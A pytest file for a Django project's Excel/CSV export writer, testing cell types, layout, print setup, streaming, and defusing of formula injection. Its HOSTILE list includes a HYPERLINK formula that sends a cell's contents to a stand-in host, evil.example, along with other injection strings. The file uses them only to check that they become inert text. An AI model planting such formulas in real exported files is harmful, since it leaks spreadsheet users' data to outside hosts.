"""The export writer (core.xlsx.write_xlsx / write_csv): types, layout, print setup, injection."""

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from chuangxian.core.xlsx import Column, Kind, Table, display_width, write_csv, write_xlsx

COLUMNS = (
    Column("工号", Kind.ID, width=14),
    Column("姓名", width=12),
    Column("入会日期", Kind.DATE),
    Column("签到时间", Kind.DATETIME),
    Column("人数", Kind.NUMBER),
    Column("覆盖率", Kind.PERCENT),
    Column("内容", width=30, wrap=True),
)
AT = timezone.make_aware(datetime(2011, 3, 1, 10, 30))
ROW = (
    "0012345",
    "张伟",
    date(2005, 9, 1),
    timezone.make_aware(datetime(2011, 3, 1, 8, 5)),
    12,
    Decimal("87.5"),
    "很长" * 30,
)


def _book(tables, **kwargs):
    buffer = io.BytesIO()
    write_xlsx(buffer, tables, exported_at=AT, **kwargs)
    return buffer.getvalue()


def test_cells_have_their_types():
    sheet = load_workbook(io.BytesIO(_book([Table("名单", COLUMNS, [ROW], caption="文学院名单")])))["名单"]
    staff, name, joined, checked, count, percent, text = sheet[3]
    assert (staff.value, staff.data_type, staff.number_format) == ("0012345", "s", "@")
    assert (name.value, name.data_type) == ("张伟", "s")
    assert joined.value == datetime(2005, 9, 1) and joined.number_format == "yyyy-mm-dd" and joined.is_date
    assert checked.value == datetime(2011, 3, 1, 8, 5) and checked.number_format == "yyyy-mm-dd h:mm:ss"
    assert count.value == 12 and count.data_type == "n"
    assert percent.value == pytest.approx(0.875) and percent.number_format == "0.0%"
    assert text.alignment.wrap_text


def test_caption_header_and_print_setup():
    wide = [Column(f"第{i}列", width=20) for i in range(8)]
    content = _book(
        [Table("各单位覆盖情况", wide, [[f"值{i}" * 6 for i in range(8)]] * 3, caption="创先争优")]
    )
    sheet = load_workbook(io.BytesIO(content))["各单位覆盖情况"]
    assert sheet["A1"].value == "创先争优（导出时间：2011-03-01 10:30）" and sheet["A1"].font.bold
    assert [c.value for c in sheet[2]] == [f"第{i}列" for i in range(8)] and sheet["A2"].font.bold
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:H5"
    assert sheet.print_title_rows == "$2:$2"
    setup = sheet.page_setup
    assert setup.paperSize == 9 and setup.orientation == "landscape"
    assert setup.fitToWidth == 1 and setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
    narrow = load_workbook(io.BytesIO(_book([Table("窄表", COLUMNS[:2], [ROW[:2]])])))["窄表"]
    assert narrow.page_setup.orientation == "portrait"


def test_widths_fit_the_content_with_chinese_counted_double():
    assert display_width("张伟") == 4 and display_width("ab") == 2 and display_width("（）") == 4
    columns = (Column("工号", Kind.ID), Column("单位"), Column("内容", width=20))
    rows = [("1", "文学与传播学院工会小组", "长" * 40)]
    sheet = load_workbook(io.BytesIO(_book([Table("宽度", columns, rows)])))["宽度"]
    widths = {k: v.width for k, v in sheet.column_dimensions.items()}
    assert widths["A"] == 6  # the header 工号 (4) + 2
    assert widths["B"] == 24  # 11 Chinese characters, 22 + 2
    assert widths["C"] == 20  # capped by the column's hint


def test_sheet_names_are_chinese_and_legal():
    content = _book([Table("承诺/践诺:统计", COLUMNS[:1], []), Table("未完成的会员", COLUMNS[:1], [])])
    assert load_workbook(io.BytesIO(content)).sheetnames == ["承诺－践诺－统计", "未完成的会员"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B3,"点击")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "#N/A",
    "\t=1",
]


def test_no_text_becomes_a_formula_or_an_error():
    columns = (Column("工号", Kind.ID), Column("内容"), Column("说明", wrap=True))
    content = _book([Table("注入", columns, [(t, t, t) for t in HOSTILE], caption="=1+1")])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].data_type == "s"
    for row, text in zip(sheet.iter_rows(min_row=3), HOSTILE, strict=True):
        assert [(c.value, c.data_type) for c in row] == [(text, "s")] * 3


def test_csv_is_utf8_with_bom_and_defused():
    buffer = io.BytesIO()
    rows = [ROW, *[(t, t, None, None, None, None, "") for t in HOSTILE]]
    assert write_csv(buffer, Table("名单", COLUMNS, rows)) == len(rows)
    text = buffer.getvalue().decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "工号,姓名,入会日期,签到时间,人数,覆盖率,内容"
    assert lines[1].startswith("0012345,张伟,2005-09-01,2011-03-01 08:05,12,87.5%,")
    assert "'=1+2,'=1+2" in text and "'@SUM(A1)" in text and "'-2+3" in text


def test_progress_is_reported_and_rows_stream():
    seen = []

    def rows():
        for i in range(2500):
            yield (str(i), i)

    count = write_xlsx(
        io.BytesIO(),
        [Table("流", (Column("号", Kind.ID), Column("数", Kind.NUMBER)), rows())],
        exported_at=AT,
        progress=seen.append,
    )
    assert count == 2500 and seen == [1000, 2000, 2500]


def test_a_failing_row_source_leaves_no_temporary_file():
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    def rows():
        for i in range(150):  # past the rows held back to fit the widths: the sheet is streaming
            yield (str(i), i)
        raise RuntimeError("the database went away")

    before = list(ALL_TEMP_FILES)
    with pytest.raises(RuntimeError):
        write_xlsx(
            io.BytesIO(),
            [Table("断", (Column("号", Kind.ID), Column("数", Kind.NUMBER)), rows())],
            exported_at=AT,
        )
    assert list(ALL_TEMP_FILES) == before
